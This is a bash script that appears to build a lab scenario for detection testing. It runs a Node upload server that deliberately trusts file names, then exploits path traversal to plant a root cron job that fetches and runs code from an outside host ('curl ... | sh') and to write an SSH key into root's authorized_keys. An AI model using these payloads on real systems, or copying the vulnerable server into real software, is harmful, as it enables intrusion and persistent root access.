#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=node far=out services=nvr:8086 seconds=20 parts=dns before=yes
# The server's page in node takes maps of the house and trusts their names; somebody outside sends a map whose name leads to cron's folder, and a key for root; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
if [ "$1" = services ]; then
	mkdir -p "$LAB/host/srv/maps"; cat >"$LAB/maps.js" <<'END'
const http = require("http"), fs = require("fs"), path = require("path");
http.createServer((q, r) => {
	const name = new URL(q.url, "http://x").searchParams.get("name") || "map", parts = [];
	q.on("data", (d) => parts.push(d));
	q.on("end", () => fs.writeFile(path.join(process.argv[2], name), Buffer.concat(parts), (e) => r.end(e ? "no\n" : "ok\n")));
}).listen(8086, "10.30.0.2");
END
	exec timeout 60 node "$LAB/maps.js" "$LAB/host/srv/maps"
fi
if [ "$1" = out ]; then
	sleep 4; head -c 30000 /usr/bin/id | curl -s --data-binary @- 'http://10.30.0.2:8086/?name=floor1.png' >/dev/null; sleep 2
	echo '*/7 * * * * root curl -s http://203.0.113.66/x | sh' | curl -s --data-binary @- 'http://10.30.0.2:8086/?name=../../etc/cron.d/certbot2' >/dev/null; sleep 2
	echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA x' | curl -s --data-binary @- 'http://10.30.0.2:8086/?name=../../root/.ssh/authorized_keys' >/dev/null; sleep 8; exit 0
fi
sleep 17; grep -q root "$LAB/host/etc/cron.d/certbot2" && grep -q ed25519 "$LAB/host/root/.ssh/authorized_keys"
